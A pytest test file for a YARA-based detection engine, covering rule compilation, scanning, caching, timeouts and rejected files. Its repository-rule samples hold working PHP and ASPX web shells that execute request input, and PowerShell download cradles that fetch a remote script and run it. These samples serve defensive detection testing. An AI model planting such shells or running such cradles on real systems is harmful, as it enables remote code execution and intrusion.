from __future__ import annotations

import hashlib
import os
import time
from collections.abc import Callable
from pathlib import Path

import pytest
import yara_x

from correlator.errors import RuleLoadError
from correlator.model import Alert, Rejected, event_id_for
from correlator.yara_engine import (
    DEFAULT_LEVEL,
    YaraLoadError,
    YaraRuleSet,
    YaraScanner,
    compile_rules,
    guess_filetype,
    iter_files,
    level_from_meta,
    scan_paths,
)

REPO_RULES = Path(__file__).resolve().parents[2] / "rules" / "yara"

HELLO_RULE = """
rule Hello : greeting test
{
    meta:
        description = "says hello"
        severity = "medium"
        author = "tests"
    strings:
        $a = "hello"
    condition:
        $a
}
"""

WriteFile = Callable[[str, str | bytes], Path]


@pytest.fixture
def write(tmp_path: Path) -> WriteFile:
    """Write a file under tmp_path (parents created); text or bytes."""

    def _write(relative: str, content: str | bytes) -> Path:
        path = tmp_path / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return path

    return _write


def alerts_of(outcome: list[Alert] | Rejected) -> list[Alert]:
    assert isinstance(outcome, list), f"expected alerts, got {outcome}"
    return outcome


# Compiling


def test_bad_file_is_reported_and_good_file_still_scans(write: WriteFile, tmp_path: Path) -> None:
    write("rules/good.yar", HELLO_RULE)
    bad = write(
        "rules/bad.yar",
        'rule Partial { condition: true }\nrule Bad { strings: $a = "x" condition: $b }\n',
    )

    ruleset = compile_rules([tmp_path / "rules"])

    assert ruleset.loaded_files == 1
    assert ruleset.rule_count == 1
    assert len(ruleset.failures) == 1
    failure = ruleset.failures[0]
    assert isinstance(failure, RuleLoadError)
    assert failure.path == str(bad)
    assert failure.line == 2
    assert failure.reason == (
        "error[E025]: unknown pattern `$b`: this pattern is not declared in the `strings` section"
    )
    assert str(failure) == f"{bad}:2: {failure.reason}"
    # The valid rule that precedes the error in the failed file is not loaded either.
    hits = alerts_of(ruleset.scanner().scan_bytes(b"say hello"))
    assert [a.rule.id for a in hits] == ["good:Hello"]


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ("rule { condition: true }", "error[E001]: syntax error: expecting identifier, found `{`"),
        ('import "nosuch"\nrule M { condition: true }',
         "error[E010]: unknown module `nosuch`: module `nosuch` not found"),
    ],
    ids=["syntax", "unknown-module"],
)
def test_compile_error_reasons(write: WriteFile, source: str, reason: str) -> None:
    path = write("x.yar", source)
    ruleset = compile_rules([path])
    assert [(f.path, f.reason, f.line) for f in ruleset.failures] == [(str(path), reason, 1)]
    assert ruleset.rule_count == 0


def test_missing_rule_path_is_a_failure(tmp_path: Path) -> None:
    ruleset = compile_rules([tmp_path / "nope"])
    missing = str(tmp_path / "nope")
    assert [(f.path, f.reason) for f in ruleset.failures] == [(missing, "no such file or directory")]


def test_strict_raises_first_failure(write: WriteFile) -> None:
    path = write("bad.yar", "rule { }")
    with pytest.raises(YaraLoadError, match=r"bad\.yar:1: error\[E001\]"):
        compile_rules([path], strict=True)


def test_each_file_gets_its_own_namespace(write: WriteFile, tmp_path: Path) -> None:
    write("rules/one.yar", HELLO_RULE)
    write("rules/sub/two.yara", HELLO_RULE)
    write("rules/ignored.txt", "not a rule")
    single = write("elsewhere/one.yar", HELLO_RULE)

    ruleset = compile_rules([tmp_path / "rules", single, tmp_path / "rules" / "one.yar"])

    assert ruleset.failures == ()
    assert sorted(ruleset.namespaces) == ["elsewhere/one", "one", "sub/two"]
    assert ruleset.namespaces["sub/two"] == tmp_path / "rules" / "sub" / "two.yara"
    hits = alerts_of(ruleset.scanner().scan_bytes(b"hello"))
    assert sorted(a.rule.id for a in hits) == ["elsewhere/one:Hello", "one:Hello", "sub/two:Hello"]


def test_user_externals_are_globals(write: WriteFile) -> None:
    path = write("env.yar", 'rule Prod { condition: env == "prod" and depth > 2 }')
    prod = compile_rules([path], externals={"env": "prod", "depth": 3})
    dev = compile_rules([path], externals={"env": "dev", "depth": 3})
    assert [a.rule.id for a in alerts_of(prod.scanner().scan_bytes(b""))] == ["env:Prod"]
    assert alerts_of(dev.scanner().scan_bytes(b"")) == []
    with pytest.raises(TypeError, match="external 'filename' is set per file and must be a string, got int"):
        compile_rules([path], externals={"filename": 1})


@pytest.mark.parametrize(
    ("meta", "level"),
    [
        ([("severity", "Critical")], "critical"),
        ([("level", "info")], "informational"),
        ([("score", 75)], "high"),
        ([("score", 40)], "medium"),
        ([("score", "95")], "critical"),
        ([("score", 10)], "informational"),
        ([("severity", "weird"), ("score", 60)], "medium"),
        ([("level", "low"), ("severity", "critical")], "critical"),
        ([("author", "x")], DEFAULT_LEVEL),
        ([("severity", True)], DEFAULT_LEVEL),
    ],
    ids=["name", "alias", "score-high", "score-medium", "score-string", "score-low", "fallback-to-score",
         "severity-first", "none", "bool-ignored"],
)
def test_level_from_meta(meta: list[tuple[str, object]], level: str) -> None:
    assert level_from_meta(meta) == level


# Scanning


@pytest.fixture
def hello_rules(write: WriteFile) -> YaraRuleSet:
    return compile_rules([write("rules/hello.yar", HELLO_RULE)])


def test_alert_shape(hello_rules: YaraRuleSet, write: WriteFile) -> None:
    content = b"xxhelloxxhello"
    path = write("data/sample.TXT", content)
    os.utime(path, ns=(1_700_000_000_123_000_000, 1_700_000_000_123_456_789))

    [alert] = alerts_of(hello_rules.scanner().scan_file(path))

    assert alert.rule.id == "hello:Hello"
    assert alert.rule.title == "Hello"
    assert alert.rule.kind == "yara"
    assert alert.rule.level == "medium"
    assert alert.rule.tags == ("greeting", "test")
    assert alert.rule.namespace == "hello"
    assert alert.rule.description == "says hello"
    assert alert.rule.path == str(hello_rules.namespaces["hello"])
    assert dict(alert.rule.meta) == {"description": "says hello", "severity": "medium", "author": "tests"}
    assert alert.event_id == event_id_for(f"{path}\n{hashlib.sha256(content).hexdigest()}", 1_700_000_000_123)
    assert alert.timestamp_ms == 1_700_000_000_123
    assert alert.origin.path == str(path)
    doc = alert.to_dict()
    assert doc["@timestamp"] == "2023-11-14T22:13:20.123Z"
    assert doc["rule"]["name"] == "Hello"
    assert doc["rule"]["namespace"] == "hello"
    assert doc["file"]["path"] == str(path)
    assert doc["file"]["name"] == "sample.TXT"
    assert doc["file"]["extension"] == "txt"
    assert doc["file"]["size"] == len(content)
    assert doc["file"]["hash"]["sha256"] == hashlib.sha256(content).hexdigest()
    assert doc["yara"] == {
        "matches": [{"pattern": "$a", "offset": 2, "length": 5}, {"pattern": "$a", "offset": 9, "length": 5}]
    }
    assert doc["matched"] == {"yara.patterns": ["$a"]}


def test_matches_are_capped_per_pattern(hello_rules: YaraRuleSet) -> None:
    [alert] = alerts_of(hello_rules.scanner(max_matches_per_pattern=3).scan_bytes(b"hello " * 50))
    yara = alert.extra["yara"]
    assert [m["offset"] for m in yara["matches"]] == [0, 6, 12]
    assert yara["matches_truncated"] is True


def test_per_file_externals(write: WriteFile) -> None:
    rules = write(
        "rules/ext.yar",
        """
        rule PhpByName { condition: filename matches /\\.php$/ }
        rule ByPath { condition: filepath contains "/www/" }
        rule ByExtension { condition: extension == "php" }
        rule Elf { condition: filetype == "ELF" }
        rule Owned { condition: owner != "" }
        """,
    )
    scanner = compile_rules([rules]).scanner(cache={})
    php = write("www/index.PHP", b"<?php echo 1; ?>")
    txt = write("other/index.txt", b"<?php echo 1; ?>")
    elf = write("other/tool", b"\x7fELF\x02\x01\x01" + bytes(64))

    def hits(path: Path) -> set[str]:
        return {a.rule.title for a in alerts_of(scanner.scan_file(path))}

    # matches is case-sensitive on the name; extension is lowercased.
    assert hits(php) == {"ByPath", "ByExtension", "Owned"}
    assert hits(txt) == {"Owned"}
    assert hits(elf) == {"Elf", "Owned"}
    # Same content under another name: the cache key includes the externals, so the result is not reused.
    assert scanner.stats.cache_hits == 0
    assert alerts_of(scanner.scan_bytes(b"", path="/srv/www/a.php")) != []
    assert alerts_of(scanner.scan_bytes(b"")) == []


def test_identical_content_is_scanned_once(hello_rules: YaraRuleSet, write: WriteFile, monkeypatch) -> None:
    first = write("a/one.bin", b"hello there")
    second = write("b/two.bin", b"hello there")
    cache: dict[str, object] = {}
    scanner = hello_rules.scanner(cache=cache)  # type: ignore[arg-type]
    calls: list[int] = []
    real_scan = scanner._scan

    def counting_scan(*args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(1)
        return real_scan(*args, **kwargs)

    monkeypatch.setattr(scanner, "_scan", counting_scan)

    [a1] = alerts_of(scanner.scan_file(first))
    [a2] = alerts_of(scanner.scan_file(second))

    assert len(calls) == 1
    assert scanner.stats.cache_hits == 1
    assert scanner.stats.files == 2
    assert len(cache) == 1
    assert (a1.origin.path, a2.origin.path) == (str(first), str(second))
    assert a1.extra["file"]["name"] == "one.bin"
    assert a2.extra["file"]["name"] == "two.bin"
    assert a1.event_id != a2.event_id  # same content, two files: two alerts


def test_file_over_size_limit_is_rejected(hello_rules: YaraRuleSet, write: WriteFile) -> None:
    path = write("big.bin", b"hello world")
    scanner = hello_rules.scanner(max_size=10)
    outcome = scanner.scan_file(path)
    assert isinstance(outcome, Rejected)
    assert outcome.reason == "file too large: 11 bytes > limit 10"
    assert outcome.origin.path == str(path)
    assert outcome.stage == "read"
    assert alerts_of(scanner.scan_file(path, max_size=11))
    assert scanner.stats.rejected == 1


def test_unreadable_paths_are_rejected(hello_rules: YaraRuleSet, tmp_path: Path) -> None:
    scanner = hello_rules.scanner()
    missing = scanner.scan_file(tmp_path / "missing")
    assert isinstance(missing, Rejected)
    assert missing.reason == "cannot read: No such file or directory"
    directory = scanner.scan_file(tmp_path)
    assert isinstance(directory, Rejected)
    assert directory.reason == "not a regular file"
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    outcome = scanner.scan_file(fifo)  # must not block reading the pipe
    assert isinstance(outcome, Rejected)
    assert outcome.reason == "not a regular file"


SLOW_RULE = """
rule Slow {
    condition:
        for all i in (0..filesize) : ( for all j in (0..filesize) : ( uint8(i) != 0x1FF ) )
}
rule Quick { strings: $a = "quick" condition: $a }
"""


def test_timeout_is_rejected_with_real_engine(write: WriteFile) -> None:
    ruleset = compile_rules([write("slow.yar", SLOW_RULE)])
    scanner = ruleset.scanner(timeout_s=1)
    started = time.monotonic()
    outcome = scanner.scan_bytes(b"A" * 100_000, path="/data/blob")
    assert time.monotonic() - started < 30
    assert isinstance(outcome, Rejected)
    assert outcome.reason == "YARA scan timed out after 1s"
    assert outcome.stage == "scan"
    assert outcome.origin.path == "/data/blob"
    # The scanner stays usable after a timeout.
    assert [a.rule.title for a in alerts_of(scanner.scan_bytes(b"quick"))] == ["Quick"]


def test_scan_error_is_rejected(hello_rules: YaraRuleSet, monkeypatch) -> None:
    scanner = hello_rules.scanner()

    class FailingScanner:
        def set_global(self, name: str, value: str) -> None:
            pass

        def scan(self, data: bytes) -> None:
            raise yara_x.ScanError("boom")

    monkeypatch.setattr(scanner, "_scanner", FailingScanner())
    outcome = scanner.scan_bytes(b"hello")
    assert isinstance(outcome, Rejected)
    assert outcome.reason == "YARA scan failed: boom"


def test_scanner_rejects_bad_settings(hello_rules: YaraRuleSet) -> None:
    with pytest.raises(ValueError, match="timeout_s must be at least 1 second, got 0"):
        YaraScanner(hello_rules, timeout_s=0)


@pytest.mark.parametrize(
    ("head", "kind"),
    [(b"MZ\x90\x00", "EXE"), (b"\x7fELF\x02", "ELF"), (b"%PDF-1.7", "PDF"), (b"PK\x03\x04", "ZIP"),
     (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "OLE"), (b"hello", ""), (b"", "")],
    ids=["exe", "elf", "pdf", "zip", "ole", "text", "empty"],
)
def test_guess_filetype(head: bytes, kind: str) -> None:
    assert guess_filetype(head) == kind


def test_scan_paths_walks_directories_in_order(
    hello_rules: YaraRuleSet, write: WriteFile, tmp_path: Path
) -> None:
    write("tree/b/z.txt", b"hello")
    write("tree/a.txt", b"nothing")
    write("tree/b/a.txt", b"hello again")
    write("tree/c.txt", b"hello")
    missing = tmp_path / "missing.txt"

    items = list(scan_paths(hello_rules.scanner(), [tmp_path / "tree", missing]))

    assert [(type(i).__name__, i.origin.path) for i in items] == [
        ("Alert", str(tmp_path / "tree/c.txt")),
        ("Alert", str(tmp_path / "tree/b/a.txt")),
        ("Alert", str(tmp_path / "tree/b/z.txt")),
        ("Rejected", str(missing)),
    ]


def test_unlistable_directory_is_rejected(tmp_path: Path, monkeypatch) -> None:
    locked = tmp_path / "locked"

    def walk(top: Path, onerror: Callable[[OSError], None]):  # type: ignore[no-untyped-def]
        onerror(PermissionError(13, "Permission denied", str(locked)))
        yield str(top), [], ["ok.txt"]

    monkeypatch.setattr("correlator.yara_scan.os.walk", walk)
    rejected, ok = iter_files([tmp_path])
    assert isinstance(rejected, Rejected)
    assert rejected.origin.path == str(locked)
    assert rejected.reason == "cannot list directory: Permission denied"
    assert ok == tmp_path / "ok.txt"


# The repository's own rules

EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*")

REPO_RULE_SAMPLES = [
    ("eicar.txt", EICAR, "eicar:EICAR_Test_File"),
    ("eicar_crlf.com", EICAR + b"\r\n", "eicar:EICAR_Test_File"),
    ("shell.php", b'<?php @eval($_POST["cmd"]); ?>', "webshell:Webshell_PHP_Request_Eval"),
    ("b64.php", b"<?php\n  assert(base64_decode($_REQUEST['x']));\n", "webshell:Webshell_PHP_Request_Eval"),
    ("chopper.aspx", b'<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
     "webshell:Webshell_ASPX_Request_Exec"),
    ("run.aspx",
     b'<%@ Page Language="C#" %>\n<% var p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); '
     b"Process.Start(p); %>",
     "webshell:Webshell_ASPX_Request_Exec"),
    ("cradle.ps1", b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')",
     "powershell_cradle:PowerShell_Download_Cradle"),
    ("iwr.ps1", b"iwr -useb https://example.invalid/x | iex", "powershell_cradle:PowerShell_Download_Cradle"),
    ("wide.bin", "powershell -c \"Invoke-Expression (irm http://x/y)\"".encode("utf-16-le"),
     "powershell_cradle:PowerShell_Download_Cradle"),
]

REPO_BENIGN_SAMPLES = [
    ("eicar_padded.txt", b"prefix " + EICAR),
    ("page.php", b"<?php echo htmlspecialchars($_GET['q']); ?>"),
    ("page.aspx", b'<%@ Page Language="C#" %><%= Request.QueryString["q"] %>'),
    ("download.ps1", b"(New-Object Net.WebClient).DownloadFile('https://example.invalid/a.zip', 'a.zip')"),
]


@pytest.fixture(scope="module")
def repo_rules() -> YaraRuleSet:
    return compile_rules([REPO_RULES])


def test_repo_rules_compile(repo_rules: YaraRuleSet) -> None:
    assert repo_rules.failures == ()
    assert repo_rules.loaded_files >= 2
    assert repo_rules.file_externals_used == frozenset()  # so the scan cache works on content alone
    for path in repo_rules.files:
        text = path.read_text()
        for key in ("author", "description", "severity"):
            assert f"{key} =" in text, f"{path}: every rule needs meta {key}"


@pytest.mark.parametrize(
    ("name", "content", "rule_id"), REPO_RULE_SAMPLES, ids=[s[0] for s in REPO_RULE_SAMPLES]
)
def test_repo_rules_hit(repo_rules: YaraRuleSet, name: str, content: bytes, rule_id: str) -> None:
    hits = alerts_of(repo_rules.scanner().scan_bytes(content, path=f"/srv/{name}"))
    assert [a.rule.id for a in hits] == [rule_id]


@pytest.mark.parametrize(("name", "content"), REPO_BENIGN_SAMPLES, ids=[s[0] for s in REPO_BENIGN_SAMPLES])
def test_repo_rules_stay_quiet(repo_rules: YaraRuleSet, name: str, content: bytes) -> None:
    assert alerts_of(repo_rules.scanner().scan_bytes(content, path=f"/srv/{name}")) == []


# Shared corpus


@pytest.mark.corpus
def test_signature_base_corpus(shared_data: Path, write: WriteFile) -> None:
    root = shared_data / "yara" / "signature-base" / "yara"
    files = sorted(p for p in root.iterdir() if p.suffix in {".yar", ".yara"})
    assert files, f"no rule files in {root}"

    ruleset = compile_rules([root])

    failures = "\n".join(str(f) for f in ruleset.failures)
    assert ruleset.loaded_files >= 0.95 * len(files), (
        f"{ruleset.loaded_files}/{len(files)} files loaded, {len(ruleset.failures)} failed:\n{failures}"
    )
    assert ruleset.rule_count > 1000
    scanner = ruleset.scanner(timeout_s=30)
    samples = [Path("/bin/ls"), write("sample.txt", b"just some harmless text\n" * 100)]
    for sample in samples:
        if sample.exists():
            outcome = scanner.scan_file(sample)
            assert isinstance(outcome, list), f"{sample}: {outcome}"
    assert scanner.stats.files == sum(1 for s in samples if s.exists())
